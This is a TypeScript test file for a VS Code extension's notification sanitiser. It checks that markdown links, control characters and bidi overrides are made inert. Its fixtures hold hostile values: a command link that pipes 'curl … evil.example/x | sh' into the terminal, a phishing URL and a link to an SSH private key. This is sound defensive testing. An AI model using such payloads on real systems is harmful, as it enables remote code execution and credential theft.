import assert from 'node:assert/strict';
import fc from 'fast-check';
import { inertNotificationText, NOTIFICATION_VALUE_LENGTH } from '../../../src/core/notificationText';
import { vscodeLinksIn as linksIn } from '../../support/vscodeLinks';

const commandHref = `command:workbench.action.terminal.sendSequence?${encodeURIComponent(JSON.stringify({ text: 'curl -s https://evil.example/x | sh\n' }))}`;
const HOSTILE = [
  `[Fix the team file](${commandHref})`,
  '[Open](https://evil.example/login)',
  '[Open](file:///home/me/.ssh/id_rsa)',
  `[Open the report](${commandHref} "Report")`,
  `[Reload]\n(${commandHref})`,
  'x[y](command:aiNews.removeAnnotation)z',
  `[Fix](COMMAND:aiNews.setStatus?%5B%5D)`,
];

describe('notifications: inertNotificationText', () => {
  it('the pattern is VS Code\'s: it finds the links of the audit in the raw values', () => {
    for (const value of HOSTILE.filter((v) => !v.includes('\n'))) assert.equal(linksIn(value).length, 1, value);
  });

  it('leaves no link in a hostile value, alone or inside a message', () => {
    for (const value of HOSTILE) {
      const shown = inertNotificationText(value, 1000);
      assert.deepEqual(linksIn(shown), [], shown);
      assert.deepEqual(linksIn(`.ainews/team.json in news: line 2, column 19: "${shown}" is not allowed`), []);
    }
  });

  it('keeps what the value says, readable: only a zero-width space is added after "]"', () => {
    const shown = inertNotificationText('[Fix the team file](command:aiNews.setStatus)');
    assert.equal(shown, '[Fix the team file]\u200B(command:aiNews.setStatus)');
    assert.equal(shown.replace(/\u200B/g, ''), '[Fix the team file](command:aiNews.setStatus)');
    assert.equal(inertNotificationText('Alibaba investiert 53 Mrd. Dollar (laut Reuters)'), 'Alibaba investiert 53 Mrd. Dollar (laut Reuters)');
  });

  it('cannot form a link with the text around it: a value that ends in "]" or starts with "("', () => {
    const label = inertNotificationText('[Fix]');
    const target = inertNotificationText('(command:aiNews.removeAnnotation)');
    assert.deepEqual(linksIn(`${label}${target}`), []);
    assert.deepEqual(linksIn(`[Fix]${target}`), [], 'a "]" of the message before a value');
    assert.deepEqual(linksIn(`${label}(command:x)`), [], 'a "(" of the message after a value');
  });

  it('puts the value on one line and shows controls and bidi overrides as \uFFFD', () => {
    assert.equal(inertNotificationText('line one\n\n# line two\ttab'), 'line one # line two tab');
    assert.equal(inertNotificationText('pay\u202Eevil\u202C \u001b]0;x\u0007'), 'pay\uFFFDevil\uFFFD \uFFFD]\u200B0;x\uFFFD');
  });

  it('cuts a long value and marks the cut; never splits a surrogate pair', () => {
    const shown = inertNotificationText(`${'a'.repeat(8)}😀${'b'.repeat(500)}`);
    assert.ok(shown.length <= NOTIFICATION_VALUE_LENGTH, String(shown.length));
    assert.ok(shown.endsWith('…'));
    assert.equal(inertNotificationText('x'.repeat(50), 10), `${'x'.repeat(9)}…`);
    assert.equal(inertNotificationText(`${'a'.repeat(8)}😀${'b'.repeat(20)}`, 10), `${'a'.repeat(8)}…`);
  });

  it('applied twice, changes nothing more', () => {
    for (const value of HOSTILE) assert.equal(inertNotificationText(inertNotificationText(value)), inertNotificationText(value));
  });

  it('property: values made inert, put into any message of plain text, give no link', () => {
    const piece = fc.oneof(
      fc.constantFrom('[', ']', '(', ')', ' ', '\n', '"', "'", 'command:', 'https://', 'file:', 'x', 'aiNews.setStatus?%5B%5D'),
      fc.string({ maxLength: 8 }),
    );
    const text = fc.array(piece, { maxLength: 24 }).map((parts) => parts.join(''));
    // The message's own words: anything without "](" (our templates have none: see the l10n check below).
    const template = text.filter((t) => !t.includes(']('));
    fc.assert(
      fc.property(fc.array(fc.tuple(template, text), { minLength: 1, maxLength: 4 }), template, (parts, end) => {
        // Our words alone must not form a link: a value that became empty leaves two of them side by side.
        fc.pre(!(parts.map(([words, value]) => `${words}${inertNotificationText(value, 1000) ? '\u0001' : ''}`).join('') + end).includes(']('));
        const message = parts.map(([words, value]) => `${words}${inertNotificationText(value, 1000)}`).join('') + end;
        assert.deepEqual(linksIn(message), [], JSON.stringify(message));
      }),
      { numRuns: 3000, seed: 15 },
    );
  });
});
